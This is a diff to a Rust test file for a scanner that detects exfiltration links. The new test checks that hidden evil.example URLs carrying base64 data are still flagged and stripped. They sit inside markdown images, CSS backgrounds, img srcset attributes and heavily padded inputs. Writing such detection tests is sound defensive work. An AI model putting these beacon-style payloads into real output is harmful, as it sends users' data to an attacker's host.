@@ -42,6 +42,29 @@ fn every_case_is_found_as_it_says() {
 }
 
 #[test]
+fn what_is_worse_is_not_hidden_by_what_is_around_it_or_before_it() {
+    let data = "d=aGVsbG8gdGhpcyBpcyBhIHNlY3JldCBtZXNzYWdlIGZvciB5b3U";
+    let many = "![a](https://ok.example/a.png) ".repeat(300);
+    let attributes = "a= ".repeat(100);
+    for text in [
+        format!("[![x](https://evil.example/p?{data})](https://example.org/?a=b)\n"),
+        format!(
+            "<style>a{{background:url(https://ok.example/x.png)}} b{{background:url(https://evil.example/?{data})}}</style>"
+        ),
+        format!("<img src=\"https://ok.example/?{data}\" srcset=\"https://evil.example/?{data}\">"),
+        format!("{many} ![b](https://evil.example/?{data})"),
+        format!("<img {attributes} src=//evil.example/?{data}>"),
+    ] {
+        let found = look(&text);
+        let leads = |it: &scan::exfiltration::Finding| {
+            it.host().as_deref() == Some("evil.example") && it.carries == Carries::Data
+        };
+        assert!(found.iter().any(leads), "{text}");
+        assert!(!neutralised(&text, &found).contains("evil.example/"), "{text}");
+    }
+}
+
+#[test]
 fn what_is_removed_names_the_host_and_not_what_it_carries() {
     let text = "Before ![track](https://evil.example/p.gif?d=hunter2) after";
     let found = look(text);
